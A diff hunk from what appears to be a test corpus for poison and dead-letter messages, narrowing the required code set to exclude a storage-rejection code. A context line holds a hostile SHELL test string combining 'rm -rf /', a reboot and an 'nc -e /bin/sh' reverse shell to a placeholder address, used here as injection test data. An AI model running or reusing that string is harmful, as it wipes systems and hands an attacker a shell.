@@ -13,7 +13,9 @@ SHELL = "$(rm -rf /) `reboot` | nc -e /bin/sh 10.0.0.1 4444 & ;"
 FORMAT = "%s%s%s%n %(x)s {0} {__class__}"
 
 #: Every dead-letter code of docs/events.md s9: the corpus must show each one.
-CODES = frozenset(DeadLetterCode)
+#: ``storage_rejected`` is the database's refusal of a valid message, which no message
+#: causes by itself: tests/integration/test_poison.py provokes it with a constraint.
+CODES = frozenset(DeadLetterCode) - {DeadLetterCode.STORAGE_REJECTED}
 #: The codes ``models.decode`` can give from one message alone (models/codes.py).
 DECODED = frozenset({
     DeadLetterCode.MALFORMED_JSON, DeadLetterCode.SCHEMA_VIOLATION,
